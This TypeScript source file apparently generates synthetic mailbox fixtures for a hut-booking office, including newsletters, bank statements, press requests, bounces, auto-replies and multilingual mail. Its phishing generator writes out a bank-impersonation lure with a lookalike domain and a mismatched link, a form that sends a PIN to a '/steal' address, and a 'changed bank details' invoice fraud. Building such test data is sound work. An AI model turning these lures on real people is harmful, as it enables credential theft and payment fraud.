import { pdf, vcf, gif } from "../files";
import { asHtml, paragraphs, type Kind } from "../story";
import { addDays, DOMAIN, guest, HUTS, longDate, money, OUTFITTERS, weekOf, type Person } from "../world";

/** Letters that came with a purchase, and that nobody at the office wants. */
const IGNORED: ReadonlySet<Person> = new Set(OUTFITTERS.slice(1, 2).concat(OUTFITTERS.slice(3)));

export const newsletter: Kind = (r, date) => {
  const from = r.pick(OUTFITTERS);
  const host = from.address.split("@")[1]!;
  const piece = r.pick([
    ["What eleven winters taught us about stoves", "This month: ventilation, ash, and the one tool nobody brings."],
    ["Boots that last: a resoling map", "Forty cobblers who still do it, and what it costs."],
    ["Up to a third off tents until Sunday", "Last season's colours, this season's wind."],
    ["Ten packing lists, one of them wrong", "Guess which. The answer is at the end."],
    ["The quiet week: huts without telephones", "A reader walks five days and meets nine people."],
    [`New for ${date.getUTCFullYear() + 1}: lighter ropes`, "We dropped one from a helicopter so that you need not."],
    ["Wool or down? Yes", "Our tester was cold for you."],
    ["The last tin opener you will ever lose", "It hangs on a string, and the string has a second string."],
    ["Sunday soup, from one pot", "Three readers, three ladles, no agreement."],
    ["A knife is a promise", "How to sharpen it, whom to lend it to."],
    ["Maps we got wrong, and who told us", "Eleven corrections and a poem."],
    [`Winter stock is in, week ${weekOf(date)}`, "Everything in blue again, by request of nobody."],
    ["Why your rucksack squeaks", "It is the frame. It is always the frame."],
    ["Members' evening: slides, tea, no speeches", "Come early, the chairs are few."],
  ] as const);
  const text = paragraphs(
    piece[0],
    piece[1],
    `Read on: https://${host}/letter/${r.int(100, 999)}`,
    `You get this because you once bought something from ${from.name}.`,
  );
  const html = `<!doctype html><html><head><style>h1{color:#345}.b{padding:8px}</style></head><body><table width="600" align="center"><tr><td><img src="https://img.${host}/open.gif?u=${r.int(10_000, 99_999)}" width="1" height="1" alt=""><img src="https://img.${host}/head-${r.int(1, 9)}.jpg" alt="${from.name}" width="600" height="120"><h1>${piece[0]}</h1><p>${piece[1]}</p><p class="b"><a href="https://${host}/letter">Read on</a></p><p><small>You get this because you once bought something. <a href="https://${host}/leave">Leave the list</a></small></p></td></tr></table><script>document.title="x"</script></body></html>`;
  return [
    {
      folder: "Lists",
      from,
      to: r.pick(["bookings", "press"] as const),
      subject: piece[0],
      text,
      html,
      ignored: IGNORED.has(from),
      headers: [
        ["List-Id", `${from.name} <letter.${host}>`],
        ["List-Unsubscribe", `<https://${host}/leave?u=${r.int(1000, 9999)}>`],
        ["List-Unsubscribe-Post", "List-Unsubscribe=One-Click"],
        ["Precedence", "bulk"],
      ],
    },
  ];
};

const BANK: Person = { name: "Bergbank", address: "statements@bergbank.example" };

export const statement: Kind = (r, date) => {
  const month = longDate(addDays(date, -10)).split(" ")[1]!;
  const card = r.chance(0.5);
  const text = paragraphs(
    card
      ? `A card payment of ${money(r.int(900, 40_000) / 100)} at ${r.pick(["the quarry shop", "Larch Saddle", "Quarry Lodge", "Tarn Hut"])} has been booked to your account ending in 4417.`
      : `Your statement for ${month} is attached. Balance on the last day: ${money(r.int(100_000, 2_400_000) / 100)}.`,
    "We never ask for your password by e-mail.",
    "Bergbank",
  );
  return [
    {
      folder: "Accounts",
      from: BANK,
      to: "accounts",
      subject: card
        ? r.pick(["Card payment booked", `Payment received, terminal ${r.int(1, 6)}`])
        : `Statement for ${month} is ready`,
      text,
      html: asHtml(text),
      files: card
        ? []
        : [
            {
              type: "application/pdf",
              content: pdf(["Bergbank", `Statement for ${month}`]),
              name: `statement-${month.toLowerCase()}.pdf`,
              disposition: "attachment",
            },
          ],
      headers: [["Auto-Submitted", "auto-generated"]],
    },
  ];
};

export const press: Kind = (r) => {
  const who = guest(r);
  const hut = r.pick(HUTS);
  const paper = r.pick(["Valley Courier", "Rope & Rucksack", "Radio Norda", "the school paper"]);
  const [subject, text] = r.pick([
    [
      "Photographs for the anniversary book",
      `attached is one of eleven scans from my grandfather's album: ${hut.name} with its old roof. Use what you like, with his name.`,
    ],
    [
      `${paper}: one hour with a warden?`,
      `I write for ${paper} and would like to spend a day at ${hut.name} and an hour with ${hut.warden.name}. No flash, no questions about the accident.`,
    ],
    [
      `Correction to the piece in ${paper}`,
      `we wrote that ${hut.name} has ${hut.beds + 10} beds. It has ${hut.beds}. The correction is in tomorrow's paper.`,
    ],
    [
      "Permission to use a map",
      `may we print your sketch of the way to ${hut.name} in our walking guide? We would name the trust below it.`,
    ],
  ] as const);
  return [
    {
      folder: "Press",
      from: who,
      to: "press",
      subject,
      text: paragraphs("Good afternoon,", text, `${who.name}`),
      files: [
        {
          type: "text/vcard",
          content: vcf(who.name, who.address, `+00 555 01${r.int(10, 99)}`),
          name: "card.vcf",
          disposition: "attachment",
        },
        ...(subject.startsWith("Photo")
          ? [
              {
                type: "image/gif",
                content: gif(150, 140, 120),
                name: "scan-01.gif",
                disposition: "attachment" as const,
              },
            ]
          : []),
      ],
    },
  ];
};

export const junk: Kind = (r) => {
  const from = {
    name: r.pick(["Rewards Centre", "Dr. Felix Oyster", "Best Roofing 24", "Winner Desk", "Crypto Sherpa"]),
    address: `${r.pick(["promo", "win", "hello", "noreply"])}${r.int(10, 999)}@${r.pick(["bargainbarn", "luckypost", "fastgrow", "mail-blast"])}.example`,
  };
  const subject = r.pick([
    "Your hut has been chosen",
    "Re: your parcel (last attempt)",
    "Grow your bookings by 900 %",
    "Gutters cheaper than your neighbour's",
    "A loan in ten minutes",
    "You left something in your basket",
  ]);
  const text = paragraphs(
    r.pick(["Dear friend,", "Hello bookings,", "Good day Sir/Madam,"]),
    r.pick([
      "out of 50,000 addresses yours was drawn. Send a copy of your passport to receive the voucher.",
      "our method fills any guest house within a week. No work, no risk, no refund.",
      "we were just in your area with some tiles left over.",
    ]),
    "Click here: https://example.example/go",
  );
  return [
    {
      folder: "Junk",
      from,
      to: r.pick(["bookings", "accounts", "press"] as const),
      subject,
      text,
      html: `<html><body><center><h2><font color=red>${subject}</font></h2>${asHtml(text)}<img src="http://${from.address.split("@")[1]}/p.png"></center></body></html>`,
    },
  ];
};

export const phishing: Kind = (r) => {
  const bank = r.chance(0.6);
  const from = bank
    ? { name: "Bergbank Security", address: `security@berg-bank-${r.int(10, 99)}.example` }
    : { name: "Tolva Dry Goods", address: "accounts@tolva-invoices.example" };
  const subject = bank
    ? r.pick(["Your account will be locked today", "Unusual sign-in from abroad"])
    : "New bank details for your open invoice";
  const text = bank
    ? "We noticed something unusual. Confirm your details within 12 hours or your account will be locked."
    : "Please note that our bank details have changed. Pay the open invoice to the account below from today on.";
  const html = `<html><body><p>${text}</p><p><a href="https://login.${from.address.split("@")[1]}/verify">https://www.${bank ? "bergbank" : "tolva"}.example/</a></p><form action="https://login.example/steal"><input name="pin"><button>Confirm</button></form></body></html>`;
  return [
    {
      folder: "Junk",
      from,
      to: "accounts",
      subject,
      text: paragraphs(text),
      html,
      headers: [["Reply-To", `desk${r.int(1, 99)}@collect.example`]],
    },
  ];
};

export const bounce: Kind = (r) => {
  const who = guest(r);
  const report = `Reporting-MTA: dns; mx.${DOMAIN}\n\nFinal-Recipient: rfc822; ${who.address}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 no such mailbox\n`;
  return [
    {
      folder: "Archive",
      from: { name: "Mail Delivery System", address: `mailer-daemon@mx.${DOMAIN}` },
      to: "bookings",
      subject: "Undelivered mail returned to sender",
      text: "",
      headers: [["Auto-Submitted", "auto-replied"]],
      body: {
        multipart: "report; report-type=delivery-status",
        parts: [
          {
            type: "text/plain",
            content: `Your message to ${who.address} could not be delivered: there is no such mailbox.\n`,
            charset: "us-ascii",
            encoding: "7bit",
          },
          { type: "message/delivery-status", content: report, charset: "us-ascii", encoding: "7bit" },
          {
            type: "message/rfc822",
            content: `From: bookings@${DOMAIN}\nTo: ${who.address}\nSubject: Your booking\nMessage-ID: <lost${r.int(1000, 9999)}@${DOMAIN}>\n\nDear guest,\n\nwe have noted your beds.\n`,
            charset: "us-ascii",
            encoding: "7bit",
          },
        ],
      },
    },
  ];
};

export const away: Kind = (r, date) => {
  const who = guest(r);
  return [
    {
      folder: "Archive",
      from: who,
      to: "bookings",
      subject: r.pick(["Automatic reply: your booking", "Out of the office", "I am in the mountains"]),
      text: paragraphs(
        `I am away until ${longDate(addDays(date, r.int(3, 15)))} and do not read mail.`,
        r.pick([
          "In urgent cases ask somebody else.",
          "Your message is not forwarded.",
          "If you are the hut office: yes, we are coming.",
        ]),
        who.name,
      ),
      headers: [
        ["Auto-Submitted", "auto-replied"],
        ["X-Auto-Response-Suppress", "All"],
      ],
    },
  ];
};

/** Mail as it is met in practice: undeclared charsets, other scripts, forwarded messages. */
export const odd: Kind = (r) => {
  const who = guest(r);
  const hut = r.pick(HUTS);
  const forwarded = `From: ${who.address}\nTo: friend@post.example\nSubject: ${hut.name}\nDate: Mon, 02 Nov 2026 09:10:00 +0100\nMessage-ID: <fw${r.int(1000, 99_999)}@post.example>\n\nLook at this place. Shall we?\n`;
  const form = r.int(0, 2);
  if (form === 0)
    return [
      {
        folder: "Bookings",
        from: { name: "佐藤 京子", address: `kyoko${r.int(10, 99)}@post.example` },
        to: "bookings",
        subject: `${hut.name} の予約について`,
        text: paragraphs(
          "こんにちは。",
          `${hut.name} に二泊したいです。二人です。英語で大丈夫です。`,
          "We can also write in English. Kyoko Sato",
        ),
      },
    ];
  if (form === 1)
    return [
      {
        folder: "Bookings",
        from: who,
        to: "bookings",
        subject: `Fwd: ${hut.name}`,
        text: "",
        body: {
          multipart: "mixed",
          parts: [
            {
              type: "text/plain",
              content: paragraphs("See below, we would be three.", who.name),
              charset: "windows-1252",
            },
            {
              type: "message/rfc822",
              content: forwarded,
              encoding: "7bit",
              charset: "us-ascii",
              name: "forwarded.eml",
              disposition: "attachment",
            },
          ],
        },
      },
    ];
  return [
    {
      folder: "Bookings",
      from: { name: "Ελένη Μάρκου", address: `eleni${r.int(10, 99)}@lettera.example` },
      to: "bookings",
      subject: "Καλημέρα από τη Θεσσαλία",
      text: paragraphs(
        "Καλημέρα,",
        `έχετε δύο κρεβάτια στο ${hut.name};`,
        "Two beds in the week before Christmas would be lovely. Eleni",
      ),
      body: {
        type: "text/plain",
        content: paragraphs(
          "Καλημέρα,",
          `έχετε δύο κρεβάτια στο ${hut.name};`,
          "Two beds in the week before Christmas would be lovely. Eleni",
        ),
        encoding: "base64",
      },
    },
  ];
};
